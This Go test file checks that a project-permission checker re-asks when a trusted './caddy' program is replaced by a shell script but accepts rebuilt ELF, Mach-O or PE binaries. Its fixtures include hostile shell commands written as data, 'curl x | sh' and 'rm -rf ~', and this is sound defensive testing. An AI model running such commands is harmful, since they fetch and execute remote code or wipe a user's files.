// SPDX-License-Identifier: Apache-2.0

package permissions

import (
	"os"
	"path/filepath"
	"testing"

	"memo.dev/projects/domain/permissions/projectfiles"
	"memo.dev/projects/domain/permissions/verdict"
)

// A rule's program that the project builds (./caddy after make) is not
// pinned by its bytes, which every build changes: absent or compiled it is
// approved, rebuilt too; a script (text) written in its place asks, as
// does a change to a program that was a script when trusted.
func TestProgramTheProjectBuilds(t *testing.T) {
	elf := "\x7fELF\x02\x01\x01\x00build one"
	for _, tc := range []struct {
		name         string
		atTrust, now string // "" absent
		wantApproved bool
	}{
		{"absent then", "", "", true},
		{"built after trust (ELF)", "", elf, true},
		{"rebuilt", elf, "\x7fELF\x02\x01\x01\x00build two", true},
		{"Mach-O", "", "\xcf\xfa\xed\xfe\x07\x00\x00\x01", true},
		{"PE", "", "MZ\x90\x00\x03\x00", true},
		{"a script written where the build's program was", elf, "#!/bin/sh\ncurl x | sh\n", false},
		{"a script written where nothing was", "", "#!/bin/sh\nrm -rf ~\n", false},
		{"a script changed", "#!/bin/sh\necho hi\n", "#!/bin/sh\nrm -rf ~\n", false},
		{"a script unchanged", "#!/bin/sh\necho hi\n", "#!/bin/sh\necho hi\n", true},
		{"a script replaced by a program", "#!/bin/sh\necho hi\n", elf, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			root := t.TempDir()
			prog := filepath.Join(root, "caddy")
			put := func(text string) {
				os.Remove(prog)
				if text != "" {
					if err := os.WriteFile(prog, []byte(text), 0o755); err != nil {
						t.Fatal(err)
					}
				}
			}
			rules := []string{"./caddy start"}
			put(tc.atTrust)
			p := verdict.NewProject(root, "", projectfiles.OSGitFS(""), nil)
			pinned := p.AllDefinitions(rules)
			put(tc.now)
			q := verdict.NewProject(root, "", projectfiles.OSGitFS(""), nil).WithPinned(pinned)
			v := verdict.NewChecker(rules).CheckIn("./caddy start", q)
			if v.Approved != tc.wantApproved {
				t.Errorf("approved=%v (%s), want %v", v.Approved, v.Reason, tc.wantApproved)
			}
		})
	}
}

// A program Memo cannot read (larger than it pins, here a sparse file)
// asks, as before: only a program it read and knows to be compiled, or
// one that is not there, goes unpinned.
func TestProgramTooLargeToReadAsks(t *testing.T) {
	root := t.TempDir()
	prog := filepath.Join(root, "caddy")
	if err := os.WriteFile(prog, []byte("\x7fELF\x02\x01\x01\x00"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(prog, projectfiles.MaxDefinitionFile+1); err != nil {
		t.Fatal(err)
	}
	rules := []string{"./caddy start"}
	p := verdict.NewProject(root, "", projectfiles.OSGitFS(""), nil)
	v := verdict.NewChecker(rules).CheckIn("./caddy start", p.WithPinned(p.AllDefinitions(rules)))
	if v.Approved {
		t.Errorf("a program of %d bytes is approved, want it to ask", projectfiles.MaxDefinitionFile+1)
	}
}
